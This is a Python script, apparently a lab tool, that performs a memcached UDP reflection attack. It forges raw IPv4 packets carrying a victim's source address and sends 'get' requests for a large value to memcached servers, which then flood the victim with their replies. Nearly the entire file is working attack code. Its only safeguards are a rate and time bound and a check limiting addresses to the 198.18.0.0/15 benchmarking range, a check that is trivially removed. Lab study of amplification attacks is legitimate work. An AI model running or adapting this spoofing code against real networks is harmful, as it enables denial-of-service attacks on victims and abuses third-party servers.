"""The attacker: asks memcached servers for a large value over UDP in the victim's name. Bounded in count and in time.

usage: spoof_gets.py VICTIM SECONDS GETS_PER_SECOND KEY REFLECTOR...

Only for the lab's namespaces: it refuses addresses outside the benchmarking network 198.18.0.0/15 (RFC 2544).
"""

import ipaddress
import json
import socket
import struct
import sys
import time

MEMCACHED_PORT = 11211
LAB = ipaddress.ip_network("198.18.0.0/15")


def ipv4_udp(source, destination, source_port, destination_port, payload):
    """The datagram with its IPv4 header; the kernel fills in length, id and checksum (raw(7), IP_HDRINCL)."""
    udp_length = 8 + len(payload)
    # UDP checksum 0: not computed (RFC 768).
    udp = struct.pack("!HHHH", source_port, destination_port, udp_length, 0)
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + udp_length, 0, 0, 64, socket.IPPROTO_UDP, 0, source.packed, destination.packed
    )
    return header + udp + payload


def memcached_get(key, request_id):
    """Frame header of memcached's UDP protocol (request id, sequence, datagrams, reserved) and the command."""
    return struct.pack("!HHHH", request_id & 0xFFFF, 0, 1, 0) + f"get {key}\r\n".encode()


def lab_address(text):
    address = ipaddress.ip_address(text)
    if address not in LAB:
        sys.exit(f"{text} is not in {LAB}; this tool attacks nothing else")
    return address


def main():
    victim = lab_address(sys.argv[1])
    seconds, pace, key = float(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
    reflectors = [lab_address(text) for text in sys.argv[5:]]
    sent = 0
    started = time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(int(seconds * pace)):
            due = started + number / pace
            time.sleep(max(0.0, due - time.monotonic()))
            if time.monotonic() - started > seconds:
                break
            reflector = reflectors[number % len(reflectors)]
            source_port = 1024 + number % 60000
            datagram = ipv4_udp(victim, reflector, source_port, MEMCACHED_PORT, memcached_get(key, number))
            raw.sendto(datagram, (str(reflector), 0))
            sent += 1
    print(json.dumps({"gets": sent, "bytes_per_get": 14 + len(datagram) if sent else 0}))


if __name__ == "__main__":
    main()
